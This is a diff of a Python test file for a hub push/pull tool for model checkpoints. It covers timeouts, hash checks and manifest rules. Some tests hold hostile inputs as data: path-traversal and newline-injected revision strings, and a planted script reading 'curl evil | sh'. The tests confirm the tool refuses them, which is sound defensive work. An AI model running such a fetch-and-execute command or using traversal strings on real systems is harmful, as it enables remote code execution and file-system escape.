@@ -139,7 +139,7 @@ def test_a_full_disk_while_staging_keeps_nothing_and_the_rerun_works(drafter, tm
 
 # -- 18.3: every Hub call has a timeout ---------------------------------------------------------------------
 
-def test_push_gives_up_on_a_held_model_info_in_time(hub, drafter):  # noqa: F811
+def test_push_gives_up_on_a_held_model_info_in_time(hub, drafter):
     hub.hold, hub.hold_s = {"info"}, 30
     start = time.monotonic()
     code, report = push_json(good(drafter), "org/d", "--no-forward", "--timeout", "2")
@@ -150,7 +150,7 @@ def test_push_gives_up_on_a_held_model_info_in_time(hub, drafter):  # noqa: F811
     assert hub.commit_posts() == 0
 
 
-def test_push_gives_up_on_a_held_commit_in_time_from_the_environment(hub, drafter, monkeypatch):  # noqa: F811
+def test_push_gives_up_on_a_held_commit_in_time_from_the_environment(hub, drafter, monkeypatch):
     import eagleconv
 
     monkeypatch.setenv("EAGLECONV_HUB_TIMEOUT", "2")
@@ -164,7 +164,7 @@ def test_push_gives_up_on_a_held_commit_in_time_from_the_environment(hub, drafte
 
 
 @pytest.mark.parametrize("route", ["info", "resolve"])
-def test_pull_gives_up_on_a_held_answer_in_time(hub, drafter, tmp_path, route):  # noqa: F811
+def test_pull_gives_up_on_a_held_answer_in_time(hub, drafter, tmp_path, route):
     assert run("push", good(drafter), "org/d", "--no-forward").exit_code == 0
     hub.hold, hub.hold_s = {route}, 30
     start = time.monotonic()
@@ -174,7 +174,7 @@ def test_pull_gives_up_on_a_held_answer_in_time(hub, drafter, tmp_path, route): 
     assert not (tmp_path / "p").exists() and _debris(tmp_path, "p") == []
 
 
-def test_a_bad_timeout_is_a_usage_error(hub, drafter, monkeypatch):  # noqa: F811
+def test_a_bad_timeout_is_a_usage_error(hub, drafter, monkeypatch):
     monkeypatch.setenv("EAGLECONV_HUB_TIMEOUT", "soon")
     result = run("push", good(drafter), "org/d", "--no-forward")
     assert result.exit_code == 2 and "EAGLECONV_HUB_TIMEOUT='soon'" in result.output and hub.requests == []
@@ -182,14 +182,14 @@ def test_a_bad_timeout_is_a_usage_error(hub, drafter, monkeypatch):  # noqa: F81
 
 # -- 18.10: verification fails closed -----------------------------------------------------------------------
 
-def test_a_corrupted_upload_listed_without_a_hash_is_caught(hub, drafter):  # noqa: F811
+def test_a_corrupted_upload_listed_without_a_hash_is_caught(hub, drafter):
     hub.list_without_hash, hub.corrupt = True, {"model.safetensors"}
     code, report = push_json(good(drafter), "org/d", "--no-forward")
     assert code == 2 and not report.ok
     assert any(m.startswith("model.safetensors: remote sha256") for m in report.mismatches), report.mismatches
 
 
-def test_an_upload_listed_without_a_hash_is_fetched_and_verified(hub, drafter):  # noqa: F811
+def test_an_upload_listed_without_a_hash_is_fetched_and_verified(hub, drafter):
     hub.list_without_hash = True
     code, report = push_json(good(drafter), "org/d", "--no-forward")
     assert code == 0 and report.ok, report.error
@@ -201,7 +201,7 @@ def test_an_upload_listed_without_a_hash_is_fetched_and_verified(hub, drafter): 
 
 @pytest.mark.parametrize("text", ["hf://org/d@../../../../outside", "hf://org/d@main/../../x", "hf://org/d@a\nb",
                                   "hf://org/d@main\n"])
-def test_hostile_revisions_are_one_line_usage_errors_without_requests(hub, tmp_path, text):  # noqa: F811
+def test_hostile_revisions_are_one_line_usage_errors_without_requests(hub, tmp_path, text):
     result = run("inspect", text)
     assert result.exit_code == 2 and hub.requests == []
     assert len(result.output.strip().splitlines()) == 1 and "revision" in result.output
@@ -212,12 +212,12 @@ def test_hostile_revisions_are_one_line_usage_errors_without_requests(hub, tmp_p
 
 # -- 18.16: manifests ---------------------------------------------------------------------------------------
 
-def _recommit(hub, repo_id: str, files: dict[str, bytes]) -> None:  # noqa: F811
+def _recommit(hub, repo_id: str, files: dict[str, bytes]) -> None:
     repo = hub.repos[repo_id]
     repo.refs["main"] = hub.new_commit(repo, files, repo.refs["main"])
 
 
-def test_a_manifest_with_a_duplicate_key_is_exit_2(hub, drafter, tmp_path):  # noqa: F811
+def test_a_manifest_with_a_duplicate_key_is_exit_2(hub, drafter, tmp_path):
     assert run("push", good(drafter), "org/d", "--no-forward").exit_code == 0
     files = dict(hub.files("org/d"))
     files["MANIFEST.json"] = files["MANIFEST.json"].replace(b'"format"', b'"format": "x", "format"', 1)
@@ -226,7 +226,7 @@ def test_a_manifest_with_a_duplicate_key_is_exit_2(hub, drafter, tmp_path):  # n
     assert result.exit_code == 2 and "duplicate key" in result.output and not (tmp_path / "p").exists()
 
 
-def test_a_file_the_manifest_does_not_list_is_refused_at_any_depth(hub, drafter, tmp_path):  # noqa: F811
+def test_a_file_the_manifest_does_not_list_is_refused_at_any_depth(hub, drafter, tmp_path):
     assert run("push", good(drafter), "org/d", "--no-forward").exit_code == 0
     _recommit(hub, "org/d", {**hub.files("org/d"), "scripts/run.sh": b"curl evil | sh\n"})
     result = run("pull", "org/d", tmp_path / "p")
@@ -234,7 +234,7 @@ def test_a_file_the_manifest_does_not_list_is_refused_at_any_depth(hub, drafter,
     assert not (tmp_path / "p").exists()
 
 
-def test_pull_without_a_manifest_copies_only_the_checkpoint(hub, drafter, tmp_path):  # noqa: F811
+def test_pull_without_a_manifest_copies_only_the_checkpoint(hub, drafter, tmp_path):
     src = good(drafter)
     repo = Repo(private=False)
     files = {p.name: p.read_bytes() for p in src.iterdir()}
@@ -250,7 +250,7 @@ def test_pull_without_a_manifest_copies_only_the_checkpoint(hub, drafter, tmp_pa
 
 # -- 17.6b, 17.7: EC080 refuses; one failure contract -------------------------------------------------------
 
-def test_push_refuses_a_local_verifier_path_and_says_how_to_fix_it(hub, drafter):  # noqa: F811
+def test_push_refuses_a_local_verifier_path_and_says_how_to_fix_it(hub, drafter):
     src = good(drafter)
     cfg = json.loads((src / "config.json").read_text())
     cfg["speculators_config"]["verifier"]["name_or_path"] = "/proving-grounds/ckpt/llama-8b"
@@ -281,7 +281,7 @@ def test_library_push_reports_a_hub_failure_instead_of_raising(drafter, tmp_path
 
 # -- 17.9, 17.10: pull --overwrite, card metadata, help -----------------------------------------------------
 
-def test_pull_overwrite_swaps_in_the_new_checkpoint(hub, drafter, tmp_path):  # noqa: F811
+def test_pull_overwrite_swaps_in_the_new_checkpoint(hub, drafter, tmp_path):
     first, second = good(drafter), drafter(producer="speculators", eagle31=True, seed=7)
     assert run("push", first, "org/a", "--no-forward").exit_code == 0
     assert run("push", second, "org/b", "--no-forward").exit_code == 0
